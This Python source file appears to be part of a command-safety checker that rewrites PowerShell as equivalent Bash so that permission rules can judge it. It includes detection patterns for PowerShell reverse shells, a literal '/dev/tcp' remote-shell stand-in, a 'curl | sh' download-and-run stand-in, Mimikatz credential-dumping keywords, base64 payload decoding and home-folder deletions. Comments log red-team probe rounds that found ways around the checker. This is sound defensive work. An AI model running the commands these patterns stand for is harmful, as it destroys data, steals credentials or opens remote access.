    functions = {m.group(1).lower() for m in _FUNCTION_DEF.finditer(code)} | _drive_functions(code)
    bodies = _function_bodies(code) if functions else {}
    outer = _OUTER.get()
    if outer is not None:
        # (probe round 40, pwsh40) a block inside the code (if, foreach, try, switch, a function's
        # body, & { }) sees what the code around it bound, unless it binds the name itself:
        # $p = $HOME; if ($true) { Remove-Item -Recurse -Force $p }, function f { ... }; if (...) { f ~ }
        o_values, o_aliases, o_bodies, o_functions = outer
        declared = {n.lower() for m in re.finditer(r"(?is)\bparam\s*\(((?:[^()]|\([^()]*\))*)\)", code)
                    for n in re.findall(r"\$(\w+)", m.group(1))} if "param" in code.lower() else set()
        kept = {k: v for k, v in o_values.items() if not _binds(k, code) and k not in declared}
        # ((probe round 44, pwsh44) a reading bound around the block, piped on inside it: if ($items) {
        # $items | ForEach-Object { ... } }, as at the statement's start)
        piped = {**{k: v[1] for k, v in kept.items() if isinstance(v, tuple) and v[0] == "reading"
                    and k not in values}, **piped}
        values = {**{k: v for k, v in kept.items() if not (isinstance(v, tuple) and v[0] == "reading")}, **values}
        aliases = {**o_aliases, **aliases}
        bodies = {**{k: v for k, v in o_bodies.items() if k not in functions}, **bodies}
        functions = functions | o_functions
    _SEEN.set(({**values, **{k: ("reading", v) for k, v in piped.items()}}, aliases, bodies, functions))
    if not values and not aliases and not functions and not piped:
        return toks
    if piped:
        # ($items | ...: the reading's own pipeline piped on, its words read as the code's others are;
        # probe rounds 43 and 44)
        spliced: list[_T] = []
        head = True
        for k, t in enumerate(toks):
            if head and t[0] == "v" and t[1].strip("${}").lower() in piped and toks[k + 1:k + 2] == [("op", "|")] \
                    and re.fullmatch(r"\$(?:\w+|\{\w+\})", t[1]):
                spliced.extend(_tokens(piped[t[1].strip("${}").lower()]))
                head = False
                continue
            loop = _FOREACH_VAR.fullmatch(t[1]) if t[0] == "paren" and k and toks[k - 1][0] == "w" \
                and toks[k - 1][1].lower() == "foreach" else None
            if loop is not None and loop.group(2).lower() in piped:
                # ((probe round 45, pwsh45) foreach ($f in $items) { ... }: each item of the reading,
                # the loop over the reading itself, which _loop reads as piped on)
                spliced.append(("paren", "$" + loop.group(1) + " in " + piped[loop.group(2).lower()]))
                head = False
                continue
            spliced.append(t)
            head = t[0] == "op" and t[1] in (";", "|", "&&", "||", "&")
        toks = spliced
    out: list[_T] = []
    head = True
    for k, t in enumerate(toks):
        if t[0] == "v" and re.fullmatch(r"(?i)\$\{?(?:using:|script:|global:|local:|private:)?\w+\}?", t[1]) \
                and toks[k + 1:k + 2] != [("w", "=")]:
            # ($using:p in a job's block, $script:p: the variable the code bound; probe round 40)
            got = values.get(re.sub(r"(?i)^(?:using|script|global|local|private):", "", t[1].strip("${}")).lower())
            if isinstance(got, tuple) and not (head and got[0] == "paren"):
                t = got   # (a list at a statement's start stays the value it is: $list -join ','; round 52)
        elif t[0] == "w" and t[1].startswith("@") and t[1][1:].lower() in values:
            got = values[t[1][1:].lower()]
            if isinstance(got, dict):
                # (@p: each entry a parameter; $true a switch)
                for k, v in got.items():
                    out.append(("p", "-" + k))
                    if v is not None:
                        out.append(v)
                head = False
                continue
        elif head and t[0] in ("w", "v", "s"):
            low = t[1].lower()
            if t[0] == "w" and low in aliases and aliases[low].lower() in bodies:
                low = aliases[low].lower()   # (Set-Alias g f; g ~: the function's call; round 42)
            called = out[-1:] in ([("op", "&")], [("w", ".")]) and k > 0 and toks[k - 1] == out[-1]
            if t[0] != "w" and isinstance(values.get(low.strip("${}")), tuple):
                pass
            elif low in aliases:
                t = ("w", aliases[low])
            elif low in bodies and toks[k - 1:k] != [("w", "function")] and not _args_unread(bodies[low]):
                if called:
                    # (probe round 42, pwshbenign42) & f ~, . f ~: the call operator (or the dot,
                    # run in this scope) before the function's name calls it, as f ~ does
                    out[-1] = ("op", "&")
                    out.append(("block", bodies[low]))
                    head = False
                    continue
                # (probe round 40, pwsh40) a function the code defines once, called: its body run
                # with the values given (function f { param($p) Remove-Item -Recurse -Force $p }; f ~,
                # function f($p) { ... }, $args[0]), as & { param($p) ... } ~ is; still a command
                # only known at run time (a function: never allowed by a rule or a list, as before)
                # ((probe round 41, pwsh41) the body is what the call runs: no longer a command
                # known only at run time besides it, function f { Get-ChildItem }; f is ls)
                out.extend([("op", "&"), ("block", bodies[low])])
                head = False
                continue
            elif low in functions:
                out.extend([("op", "&"), ("v", "$" + low)])   # (a function: what it runs is not read here)
                head = False
                continue
        out.append(t)
        head = t[0] == "op" and t[1] in (";", "|", "&&", "||", "&") or (head and t == ("w", "."))
    if bodies and ("function" in code.lower() or "filter" in code.lower()):
        # (probe round 41, pwsh41) a definition whose function is only ever called by its name
        # at a command's place, each call read as its body with the values given: the body is
        # not read again at the definition with unknown values (function f($p) { Remove-Item
        # -Recurse $p }; f ./build was KKKDD); any other use of the name ($function:f, gcm f,
        # a string iex runs, @args) keeps the definition read
        for k in range(len(out) - 2):
            if out[k][0] == "w" and out[k][1].lower() in ("function", "filter") and out[k + 1][0] == "w" \
                    and _only_called(re.sub(r"(?i)^(?:script|global|local|private):", "", out[k + 1][1]).lower(),
                                     code, bodies):
                at = k + 3 if out[k + 2][0] == "paren" else k + 2
                if at < len(out) and out[at][0] == "block":
                    out[k + 2:at + 1] = [("block", "")]
    return out


_ACTION_PREFERENCE = re.compile(r"(?i)^-(?:erroraction|ea|warningaction|wa|informationaction|infa|ia|progressaction|proga)"
                                r"(?::(.*))?$")
_ACTION_VALUE = re.compile(r"(?i)silentlycontinue|stop|continue|ignore|inquire|suspend|break|[0-6]")
_FOREACH_VAR = re.compile(r"(?is)\s*\$(\w+)\s+in\s+\$\{?(\w+)\}?\s*")


def _only_called(name: str, code: str, bodies: dict[str, str]) -> bool:
    """Is the function NAME, defined once in CODE (bodies), used only as a command's name?"""
    if name not in bodies or _args_unread(bodies[name]):
        return False
    every = sum(w.lower() == name for w in _NAME_USE.findall(code))
    heads = sum(w.lower() == name for w in _HEAD_USE.findall(code))
    defs = sum(w.lower() == name for w in _DEF_USE.findall(code))
    return defs == 1 and every == heads + defs


_ARGS_USE = re.compile(r"(?i)[@$]args(?!\[)")
_NAME_USE = re.compile(r"(?<![\w$.-])([\w-]+)(?![\w-])")
_HEAD_USE = re.compile(r"(?:^|[;{|(\n]|&&|\|\|)\s*(?:&\s*|\.\s+)?([\w-]+)(?![\w:.-])")
_DEF_USE = re.compile(r"(?i)\b(?:function|filter)\s+(?:(?:script|global|local|private):)?([\w-]+)(?![\w-])")


_FUNCTION_HEAD = re.compile(r"(?i)(?:^|(?<=[;{\s(]))(?:function|filter)\s+(?:(?:script|global|local|private):)?([\w-]+)\s*")


def _function_bodies(code: str) -> dict[str, str]:
    """(probe round 40, pwsh40) The functions code defines once with `function NAME [(PARAMS)]
    { BODY }`: name -> the body as a script block's text (PARAMS as its param(...)). A name
    defined twice, or also through the function: drive, is left out (which body runs is not
    known here)."""
    out: dict[str, str] = {}
    seen: dict[str, int] = {}
    drive = _drive_functions(code)
    for m in _FUNCTION_HEAD.finditer(code):
        name = m.group(1).lower()
        seen[name] = seen.get(name, 0) + 1
        i = m.end()
        params = ""
        try:
            if code[i:i + 1] == "(":
                j = _close(code, i)
                params = "param(" + code[i + 1:j] + ") "
                i = j + 1
                while code[i:i + 1] in (" ", "\t"):
                    i += 1
            if code[i:i + 1] != "{":
                continue
            j = _close(code, i)
        except (_Unknown, IndexError):
            continue
        out[name] = params + code[i + 1:j]
    return {k: v for k, v in out.items() if seen[k] == 1 and k not in drive}


def module_spellings(path: str) -> list[str]:
    """(probe round 40, pwsh40) The other spellings of the module a path imports: a manifest
    X.psd1 (its root module, by convention X.psm1 beside it), a script module X.psm1, a
    binary X.dll, the module's folder X (X/X.psd1, X/X.psm1); none for anything else."""
    p = path.replace("\\", "/").rstrip("/")
    if not p or "$" in p or len(p) > 1024:
        return []
    head, _, base = p.rpartition("/")
    stem, dot, ext = base.rpartition(".")
    ext = ext.lower() if dot else ""
    if ext in ("psd1", "psm1", "dll"):
        here = (head + "/" if head else "") + stem
        out = [here + "." + e for e in ("psd1", "psm1") if e != ext] + [here]
        if head and posixpath.basename(head) == stem:
            out += [head, head + ".psm1", head + ".psd1"]   # (./deploy/deploy.psd1: the folder deploy)
        return out
    if not dot and base not in (".", ".."):
        return [p + "/" + base + ".psd1", p + "/" + base + ".psm1", p + ".psm1", p + ".psd1"]
    return []


def _table(body: str) -> dict[str, _T | None] | None:
    """A hashtable literal of literal values (Path='C:\\'; Recurse=$true), as parameters."""
    out: dict[str, _T | None] = {}
    for entry in re.split(r"[;\n]", body):
        if not entry.strip():
            continue
        m = re.fullmatch(r"\s*['\"]?(\w+)['\"]?\s*=\s*(.+?)\s*", entry)
        if m is None:
            return None
        v = m.group(2)
        if v.lower() == "$true":
            out[m.group(1)] = None
        elif v.lower() == "$false":
            continue
        else:
            try:
                lit = _tokens(v)
            except (_Unknown, IndexError):
                return None
            if len(lit) == 1 and lit[0][0] == "v" and (
                    _HOME_VARS.match(lit[0][1]) or _ROOT_VARS.match(lit[0][1]) or _DIR_VAR.match(lit[0][1])):
                out[m.group(1)] = lit[0]   # ((probe round 51, pwsh51) Path = $HOME: the place)
                continue
            if len(lit) != 1 or lit[0][0] not in ("s", "w") or lit[0][1].startswith("$"):
                return None
            out[m.group(1)] = lit[0]
    return out


# .NET calls that delete, write or run what a literal names
_STR = r"""('(?:[^']|'')*'|"[^"`]*")"""
# (probe round 33, residuals34) a place given to a .NET delete as a variable or a folder
# lookup: [IO.Directory]::Delete($HOME, $true), ($env:USERPROFILE), ([Environment]::GetFolderPath(
# 'UserProfile')), a FileSystemObject's DeleteFolder, VisualBasic's DeleteDirectory
_PLACE_ARG = (r"""(\$(?:env:\w+|\{env:\w+\}|home|\{home\})(?:[\\/][^\s,()'"`$;]*)?(?=\s*[,)])|"""
              r"""\[(?:system\.)?environment\]::(?:getfolderpath|getenvironmentvariable)\(\s*"""
              r"""(?:\[(?:system\.)?environment\+specialfolder\]::)?['"]?\w+['"]?\s*\))""")
_NET_DELETE_DIR = re.compile(r"(?i)(?:\[(?:system\.)?io\.directory\]::delete|"
                             r"\[(?:microsoft\.visualbasic\.fileio\.)?filesystem\]::deletedirectory|"
                             r"\.deletefolder)\(\s*(?:" + _STR + "|" + _PLACE_ARG + ")")
_NET_DELETE_FILE = re.compile(r"(?i)(?:\[(?:system\.)?io\.file\]::delete|\.deletefile)\(\s*(?:" + _STR + "|" + _PLACE_ARG + ")")
# the folders [Environment]::GetFolderPath names, as places
_SPECIAL_FOLDERS = {"userprofile": "~", "personal": "~/Documents", "mydocuments": "~/Documents",
                    "desktop": "~/Desktop", "desktopdirectory": "~/Desktop", "applicationdata": "~/AppData/Roaming",
                    "localapplicationdata": "~/AppData/Local", "windows": "/c/Windows", "system": "/c/Windows/System32",
                    "programfiles": "'/c/Program Files'", "commonapplicationdata": "/c/ProgramData",
                    "home": "~", "homedrive": "/c", "systemdrive": "/c", "systemroot": "/c/Windows", "windir": "/c/Windows",
                    "appdata": "~/AppData/Roaming", "localappdata": "~/AppData/Local", "programdata": "/c/ProgramData"}
# a folder lookup, alone or joined to a literal: ([Environment]::GetFolderPath('UserProfile') + '\.ssh')
_FOLDER_EXPR = re.compile(r"""(?i)\s*\[(?:system\.)?environment\]::(?:getfolderpath|getenvironmentvariable)\(\s*"""
                          r"""(?:\[(?:system\.)?environment\+specialfolder\]::)?['"]?(\w+)['"]?\s*\)\s*"""
                          r"""(?:\+\s*('(?:[^']|'')*'|"[^"$`]*")\s*)?""")
_FOLDER_CALL = re.compile(r"(?i)\[(?:system\.)?environment\]::\w+\(\s*(?:\[[\w.+]+\]::)?['\"]?(\w+)")
_NET_READ = re.compile(r"(?i)\s*\[(?:system\.)?io\.(file|directory)\]::(?:readalltext|readalllines|readallbytes|readlines|"
                       r"exists|getfiles|getdirectories|enumeratefiles|enumeratedirectories|getlastwritetime|"
                       r"getcreationtime)\(\s*" + _STR + r"(?:\s*,\s*(?:'[^'$]*'|\"[^\"$`]*\"|\[(?:system\.)?[\w.]+\]::\w+))*"
                       r"\s*\)(?:\.\w+)*\s*")
# ((probe round 45, pwsh45) [Environment]::GetEnvironmentVariable('PATH'[, 'User']): a variable printed, as
# printenv PATH; SetEnvironmentVariable('X', VALUE[, 'Process']) is $env:X = VALUE, with 'User' the user's
# own environment kept for later sessions (HKCU\Environment), as an export written into ~/.profile;
# 'Machine' stays _MACHINE_ENV's)
_ENV_LIT = r"'(?:[^']|'')*'" + r'|"[^"$`]*"'
_ENV_TARGET = (r"""(?:'(user|machine|process)'|"(user|machine|process)"|\[(?:system\.)?environmentvariabletarget\]::"""
               r"""(user|machine|process)|([012]))""")
_ENV_VALUE = r"(?:%s|\$(?:env:)?\w+)(?:\s*\+\s*(?:%s|\$(?:env:)?\w+))*" % (_ENV_LIT, _ENV_LIT)
_ENV_NET_GET = re.compile(r"(?i)\s*\[(?:system\.)?environment\]::getenvironmentvariable\(\s*(%s)\s*(?:,\s*%s\s*)?\)"
                          r"(?:\s*-split\s*(?:%s)|\.(?:split|trim)\(\s*(?:%s)?\s*\))?\s*"
                          % (_ENV_LIT, _ENV_TARGET, _ENV_LIT, _ENV_LIT))
_ENV_NET_SET = re.compile(r"(?i)\s*\[(?:system\.)?environment\]::setenvironmentvariable\(\s*(%s)\s*,\s*(%s|\$null)\s*"
                          r"(?:,\s*%s\s*)?\)\s*" % (_ENV_LIT, _ENV_VALUE, _ENV_TARGET))
_ENV_NET_ALL = re.compile(r"(?i)\s*\[(?:system\.)?environment\]::getenvironmentvariables\(\s*(?:%s\s*)?\)\s*" % _ENV_TARGET)


def _env_net(code: str, depth: int) -> str | None:
    """(probe round 45, pwsh45) The Bash for a statement that is one [Environment] variable call
    (_ENV_NET_GET, _ENV_NET_SET, _ENV_NET_ALL), or None."""
    m = _ENV_NET_GET.fullmatch(code)
    if m is not None:
        name = _literal_value(m.group(1))
        return "printenv " + name if re.fullmatch(r"[A-Za-z_]\w*", name) else None
    if _ENV_NET_ALL.fullmatch(code):
        return "env"
    m = _ENV_NET_SET.fullmatch(code)
    if m is None:
        return None
    name, value = _literal_value(m.group(1)), m.group(2)
    target = next((g.lower() for g in m.groups()[2:6] if g), "process")
    if not re.fullmatch(r"[A-Za-z_]\w*", name) or target in ("machine", "2"):
        return None
    if target in ("user", "1"):
        if name.lower() in _WINDOWS_ENV_RUNS:
            return None   # (the user's PATH, COR_PROFILER...: what Windows' programs run, as $env:PATH = ...)
        text = _literal_value(value) if re.fullmatch(_ENV_LIT, value) else '"$POWERSHELL_VALUE"'
        return "echo " + shlex.quote("export " + name + "=" + text) + " >> ~/.profile"
    if value.lower() == "$null":
        return "unset " + name
    return to_bash("$env:" + name + " = " + value, depth + 1)


def _literal_value(lit: str) -> str:
    return lit[1:-1].replace("''", "'") if lit[:1] == "'" else lit[1:-1]


_NET_WRITE_FILE = re.compile(r"(?i)\[(?:system\.)?io\.file\]::(?:write|append|create|open)\w*\(\s*" + _STR)
_NET_COPY_FILE = re.compile(r"(?i)\[(?:system\.)?io\.(?:file|directory)\]::(?:copy|move|replace)\w*\(\s*" + _STR
                            + r"\s*,\s*" + _STR)
_NET_SCRIPTBLOCK = re.compile(r"(?i)(?:\[(?:system\.management\.automation\.)?scriptblock\]::create|"
                              # ($ExecutionContext.InvokeCommand.InvokeScript('...'), .NewScriptBlock,
                              # [PowerShell]::Create().AddScript('...'): the same; probe round 31)
                              r"\binvokecommand\s*\.\s*(?:invokescript|newscriptblock)|\.\s*addscript)\(\s*"
                              + _STR + r"\s*[,)]")
_MACHINE_ENV = re.compile(r"(?i)\[(?:system\.)?environment\]::setenvironmentvariable\((?:[^()]|\([^()]*\))*?,\s*(?:['\"]machine['\"]|"
                          r"\[(?:system\.)?environmentvariabletarget\]::machine|2)\s*\)")
_NET_BASE64 = re.compile(r"(?i)frombase64string\(\s*['\"]([A-Za-z0-9+/=\s]+)['\"]\s*\)")
_ITEM_DELETE = re.compile(r"(?i)\((?:get-item|gi|get-childitem|gci|ls|dir)\s+(?:-(?:literal)?path\s+)?([^()|;]+?)\s*\)"
                          r"\s*\.delete\(")


# (probe round 35, published9) a PowerShell reverse or bind shell: a socket (TcpClient,
# TcpListener, UdpClient, Net.Sockets.Socket) and what it reads run as code; the Bash that
# stands for it (an interactive shell on a /dev/tcp socket) is denied in every mode
_PS_SOCKET = re.compile(r"(?i)\b(?:tcpclient|tcplistener|udpclient|net\.sockets\.socket)\b")
# ((probe round 35, left35) iex of any expression, not a variable alone: iex
# (New-Object IO.StreamReader($s)).ReadLine(), ... | iex; with a socket there, what is run
# is what it read)
_PS_RUNS_READ = re.compile(r"(?i)\b(?:iex|invoke-expression)\b(?:\s+-c(?:ommand)?)?[\s(]*(?:\$|\(|\[|new-object\b)|"
                           r"\|\s*(?:iex|invoke-expression)\b|"
                           r"\[scriptblock\]\s*::\s*create\s*\(\s*\$|redirectstandardinput|"
                           r"\binvoke-command\b[^;|]*-scriptblock\s*\(?\s*\[scriptblock\]")
REMOTE_SHELL = "sh -i >& /dev/tcp/0.0.0.0/0 0>&1"
# (probe round 40, pwsh40) a file's text made into code and run: [scriptblock]::Create((Get-Content X
# -Raw)), iex ([IO.File]::ReadAllText('X')), .InvokeScript((gc X | Out-String)): the script X run, as
# Get-Content X | iex is (cat X | sh, for the operators' rules on X)
_RUN_FILE_TEXT = re.compile(r"(?i)(?:::\s*create|\.\s*(?:newscriptblock|invokescript|addscript)|\b(?:iex|invoke-expression)"
                            r"(?:\s+-c(?:ommand)?)?)\s*\(\s*(?:\(\s*(?:get-content|gc|cat|type)\s+(?:-(?:literal)?path\s+)?"
                            r"('[^']*'|\"[^\"$`]*\"|[^\s()'\"|;$`]+)(?:\s+-(?:raw|encoding\s+\w+))*\s*(?:\|\s*out-string\s*)?\)"
                            r"|\[(?:system\.)?io\.file\]::readall(?:text|lines)\(\s*('[^']*'|\"[^\"$`]*\")\s*(?:,[^()]*)?\))")
_MIMIKATZ_TEXT = re.compile(r"(?i)\b(?:sekurlsa|lsadump|dpapi|vault|kerberos)::\w+")


def _probe(code: str, depth: int) -> str:
    """Statements of unreadable code that still name something: its downloads run; a
    .NET call's literal paths deleted or written ([IO.Directory]::Delete('C:\\', $true) is
    rm -r -f /); a script block made from a literal or base64 text is that code."""
    out = []
    if _FETCH_TEXT.search(code) and re.search(
            r"(?i)\b(?:iex|invoke-expression|scriptblock|\.invoke\(|start-process|&\s*\()", code):
        out.append("curl https://unknown | sh")
    low = code.lower()
    if ".invoke" in low:
        # ({ Remove-Item ... }.Invoke(), .InvokeReturnAsIs(): a script block written out and run)
        for m in re.finditer(r"\{", code):
            try:
                j = _close(code, m.start())
            except _Unknown:
                break
            if re.match(r"(?i)\s*\.\s*invoke(?:returnasis|withcontext)?\s*\(", code[j + 1:]):
                out.append("( " + to_bash(code[m.start() + 1:j], depth + 1) + " )")
    if "{" in code and "=" in code and re.search(r"(?i)\$\w+\s*=\s*@?[({]", code):
        # (probe round 38, pwsh38) $h = @{ k = { ... } }; $h['k'].Invoke(), $a = @({ ... }); $a[0]
        # .Invoke(): the blocks an array or a table keeps may run (a pure filter computes only)
        try:
            out += ["( " + to_bash(b, depth + 1) + " )" for m in re.finditer(r"(?i)\$\w+\s*=\s*@?([({])", code)
                    for b in _inner_blocks(code[m.start(1):_close(code, m.start(1)) + 1])[:8] if not _pure_filter(b)]
        except (_Unknown, IndexError):
            pass
    if ".invoke" in low:
        # ($sb = { ... }; $sb.Invoke(), .InvokeReturnAsIs(): the block kept in the variable run;
        # probe round 37, pwsh37)
        bound = _block_bindings(code)
        for m in _BLOCK_INVOKE.finditer(code):
            if m.group(1).lower() in bound:
                out.append("( " + to_bash(bound[m.group(1).lower()], depth + 1) + " )")
    for name, body in _block_bindings(code).items() if "{" in code else ():
        # (a block kept in a variable the unread code uses again: $sb.GetNewClosure().Invoke(),
        # [PowerShell]::Create().AddScript($sb): it may run there; probe round 37, pwsh37)
        if len(re.findall(r"(?i)\$(?:\w+:)?%s\b" % re.escape(name), code)) > 1:
            out.append("( " + to_bash(body, depth + 1) + " )")
    if "::" in code and _NET_SCRIPTBLOCK_VAR.search(code):
        # ($s = '...'; [scriptblock]::Create($s): the literal's text is the code)
        texts = _literal_bindings(code)
        for m in _NET_SCRIPTBLOCK_VAR.finditer(code):
            text = texts.get(m.group(1).lower())
            out.append("( " + (to_bash(text, depth + 1) if text is not None else UNKNOWN) + " )")
    if "::" in code or ".delete(" in low or "invokecommand" in low or "addscript" in low or ".deletefolder(" in low or ".deletefile(" in low \
            or "addcommand" in low:
        for rx, verb in ((_NET_DELETE_DIR, "rm -r -f --"), (_NET_DELETE_FILE, "rm -f --"), (_NET_WRITE_FILE, "tee --"),
                         (_NET_COPY_FILE, "tee --")):
            for m in rx.finditer(code):
                for lit in m.groups():
                    if lit is not None:
                        out.append(f"{verb} {_place_word(lit, depth)} < /dev/null")
        for m in _NET_SCRIPTBLOCK.finditer(code):
            out.append("( " + to_bash(_tokens(m.group(1))[0][1], depth + 1) + " )")
        if "addcommand" in low:
            built = _api_commands(code)
            if built:
                out.append("( " + to_bash(built, depth + 1) + " )")
        if _MACHINE_ENV.search(code):
            # ([Environment]::SetEnvironmentVariable('Path', X, 'Machine'): setx Path X /M; probe round 37)
            out.append(windows_program(["setx", "Path", "x", "/M"], depth) or UNKNOWN)
        for m in _ITEM_DELETE.finditer(code):
            out.append("rm -r -f -- " + " ".join(_word(t, depth) for t in _tokens(m.group(1)) if t[0] in ("w", "s", "v")))
        if re.search(r"(?i)iex|invoke-expression|scriptblock|\.invoke\(|&\s*\(|getstring\(", code):
            # (base64 text made into a string or a script block: the code it holds)
            for m in _NET_BASE64.finditer(code):
                text = decode_encoded("".join(m.group(1).split()))
                if text is None:
                    try:
                        text = base64.b64decode(m.group(1), validate=False).decode("utf-8")
                    except (binascii.Error, ValueError, UnicodeDecodeError):
                        text = None
                out.append("( " + (to_bash(text, depth + 1) if text else UNKNOWN) + " )")
    return "".join("; " + o for o in out)


# (probe round 51, pwsh51) the PowerShell API's command built call by call: [PowerShell]::Create()
# .AddCommand('Remove-Item').AddArgument('C:\').AddParameter('Recurse').Invoke() is Remove-Item 'C:\' -Recurse
_API_CALL = re.compile(r"(?i)\.\s*(addcommand|addargument|addparameters?|addstatement)\s*\(")
_API_VALUE = re.compile(r"""(?i)\s*('(?:[^']|'')*'|"[^"`$]*"|\$(?:env:)?\w+|-?\d+(?:\.\d+)?)\s*""")
_API_PAIR = re.compile(r"""(?i)\s*['"]?(\w+)['"]?\s*=\s*('(?:[^']|'')*'|"[^"`$]*"|\$(?:env:)?\w+|-?\d+(?:\.\d+)?)\s*""")


def _api_commands(code: str) -> str:
    """The PowerShell code the API calls in this code build (_API_CALL, in the order written:
    commands added one after another form a pipeline, AddStatement starts another), a value not
    written out as $unreadable; "" when no command is added."""
    statements: list[list[str]] = [[]]
    for m in _API_CALL.finditer(code):
        try:
            end = _close(code, m.end() - 1)
        except (_Unknown, IndexError):
            return UNKNOWN_CODE
        args = [a for a in re.split(r",(?=(?:[^'\"]|'[^']*'|\"[^\"]*\")*$)", code[m.end():end])]
        vals = [_API_VALUE.fullmatch(a) for a in args]
        words = [v.group(1) if v else "$unreadable" for v in vals]
        kind = m.group(1).lower()
        if kind == "addstatement":
            statements.append([])
        elif kind == "addcommand":
            name = words[0] if words[0][:1] in ("'", '"') else "& $unreadable"
            statements[-1].append("& " + name if name[:1] in ("'", '"') else name)
        elif not statements[-1]:
            statements[-1].append("& $unreadable")
        if kind == "addargument":
            statements[-1][-1] += " " + words[0]
        elif kind == "addparameter":
            pname = words[0].strip("'\"")
            if not re.fullmatch(r"\w+", pname):
                statements[-1][-1] += " $unreadable"
            elif len(words) < 2 or words[1].lower() == "$true":
                statements[-1][-1] += " -" + pname
            else:
                statements[-1][-1] += " -" + pname + ":" + words[1] if words[1].lower() == "$false" \
                    else " -" + pname + " " + words[1]
        elif kind == "addparameters":
            inner = code[m.end():end].strip()
            pairs = [_API_PAIR.fullmatch(x) for x in inner[2:-1].split(";")] if inner[:2] == "@{" and inner[-1:] == "}" \
                else [None]
            for pm in pairs:
                if pm is None:
                    statements[-1][-1] += " @unreadable"
                elif pm.group(2).lower() == "$true":
                    statements[-1][-1] += " -" + pm.group(1)
                else:
                    statements[-1][-1] += " -" + pm.group(1) + " " + pm.group(2)
    return "; ".join(" | ".join(st) for st in statements if st)


def _place_word(lit: str, depth: int) -> str:
    """A .NET call's path argument as a Bash word: a literal, a place variable ($HOME,
    $env:USERPROFILE\\x) or a folder lookup ([Environment]::GetFolderPath('UserProfile'));
    anything else only known at run time."""
    if lit[:1] in ("'", '"'):
        return _literal_word(lit, depth)
    m = _FOLDER_CALL.match(lit)
    if m is not None:
        return _SPECIAL_FOLDERS.get(m.group(1).lower(), '"$POWERSHELL_VALUE"')
    return _dynamic_word(lit)


def _literal_word(lit: str, depth: int) -> str:
    try:
        toks = _tokens(lit)
    except (_Unknown, IndexError):
        return '"$POWERSHELL_VALUE"'
    return _word(toks[0], depth) if len(toks) == 1 else '"$POWERSHELL_VALUE"'


def _pipeline(toks: list[_T], depth: int) -> str:
    stages: list[list[_T]] = [[]]
    for t in toks:
        if t == ("op", "|"):
            stages.append([])
        else:
            stages[-1].append(t)
    if len(stages) > 1 and len(stages[0]) == 1 and stages[0][0][0] == "paren" and "\x00" not in stages[0][0][1] \
            and re.match(r"(?i)\s*(?:get-process|gps|ps|get-ciminstance|gcim|get-wmiobject|gwmi)\b", stages[0][0][1]) \
            and not re.search(r"[;\n]", stages[0][0][1]):
        # (probe round 40, pwsh40) (Get-Process | Where-Object Name -ne 'explorer') | Stop-Process:
        # the list made first, then piped on, is the pipeline's own first stages
        try:
            inner = _tokens(stages[0][0][1])
        except (_Unknown, IndexError):
            inner = None
        if inner:
            return _pipeline(inner + [("op", "|")] + [t for st in stages[1:] for t in st + [("op", "|")]][:-1], depth)
    core = stages if len(stages) < 3 else [stages[0]] + [
        st for st in stages[1:-1] if not _passes_nearly_all(st)] + [stages[-1]]
    if len(core) == 2:
        # (probe round 40, pwsh40) Get-Process | Where-Object { $_.Name -ne 'explorer' } |
        # Stop-Process: a filter that only leaves some names out passes nearly every process
        killed = _process_kill(core)
        if killed is not None:
            return "{ ps; " + killed + "; }"
    out = []
    text = False
    items: list[_T] | None = None
    procs: list[str] | None = None
    for k, stage in enumerate(stages):
        if not stage:
            return UNKNOWN
        if k == 0:
            procs = _process_names(stage)
        elif stage[0][0] == "w" and _cmdlet(stage[0]) == "where-object" and (
                procs is not None or _cmdlet(stages[0][0]) == "get-process"):
            picked = _where_names(stage)
            procs = (procs or []) + picked if picked else procs
        elif procs and _cmdlet(stage[0]) in (("stop-process",) if _cmdlet(stages[0][0]) == "get-process" else (
                "stop-service", "spsv", "suspend-service", "set-service", "remove-service")) and not any(
                t[0] in ("w", "s", "v", "paren", "sub") for t in stage[1:] if t[0] != "p"
                and not (stage[stage.index(t) - 1][0] == "p")):
            # (probe round 37, pwsh37) Get-Process MsMpEng | Stop-Process: the processes piped in,
            # by the names Get-Process (or a Where-Object on the name) gave (it was a kill of
            # processes only known at run time, allowed in bypass)
            stage = stage + [("w", n) for n in procs]
        elif procs and _cmdlet(stage[0]) == "foreach-object" and _member_kill(stage):
            out.append("{ kill -9 " + " ".join(shlex.quote(n) for n in procs) + "; }")   # (ForEach-Object Kill)
        elif procs and _cmdlet(stage[0]) == "foreach-object" and re.search(
                r"(?i)\.kill\s*\(|stop-process|\bspps\b|\bkill\b|taskkill", " ".join(
                    t[1] for t in stage[1:] if t[0] == "block")):
            out.append("{ kill -9 " + " ".join(shlex.quote(n) for n in procs) + "; }")   # ({ $_.Kill() })
        if k > 0 and len(stage) == 2 and stage[0] in (("w", "&"), ("w", "."), ("op", "&"), ("op", ".")) \
                and _cmdlet(stage[1]) == "invoke-expression":
            stage = stage[1:]   # (… | & iex, … | . Invoke-Expression: the call operator runs iex)
        if k > 0 and len(stage) == 1 and _cmdlet(stage[0]) == "invoke-expression" \
                and len(stages[k - 1]) == 1 and stages[k - 1][0][0] == "s":
            # 'Remove-Item -Recurse -Force ~' | iex: the string is PowerShell code it runs,
            # as iex 'CODE' is (probe round 29, redteam29b), not text a Bash shell reads
            out[-1] = "( " + to_bash(stages[k - 1][0][1], depth + 1) + " )"
            text, items = True, None
            continue
        if k > 0 and items:
            given = _given_items(stage, items)
            body = _ITEM_PROPERTY.sub("$item_value.", given[1][1]) if given is not stage \
                and _cmdlet(stage[0]) == "foreach-object" else None
            if body is not None and not _ITEM_REBOUND.search(stage[1][1]) and not _ITEM_RUN.search(stage[1][1]) \
                    and not _ITEM_VAR.search(body) and UNKNOWN in _command(given, depth, piped="text" if text else True,
                                                                           first=False):
                # ((probe round 45, pwsh45) ... | ForEach-Object { Remove-Item $_ } with the items named
                # and every $_ written as them (a property other than the path a value not known here,
                # $_.Length -gt 0): the block is what runs, nothing unknown besides it)
                out.append("cat; " + to_bash(body, depth + 1))
                text, items, procs = False, None, None
                continue
            stage = given
        if k == 0 and len(stages) > 1 and len(stage) > 1 and stage[0][0] in ("paren", "sub") and stage[1][0] == "p" \
                and _value_expr([("v", "$v")] + stage[1:]):
            # ((probe round 51, pwsh51) (Get-Content x.json) -replace 'a','b' | Set-Content x.json: a value
            # computed with literals from what the (...) gives, piped on; what runs is the (...))
            out.append(to_bash(stage[0][1], depth + 1))
            text = True
            continue
        out.append(_command(stage, depth, piped="text" if text else k > 0, first=k == 0))
        text = _emits_text(stage, text)
        items = _items_of(stage) if k == 0 else (_picked_items(stage, items) if _passes_items(stage) and items else None)
        if k > 0 and not _passes_items(stage):
            procs = None
    return " | ".join(out)


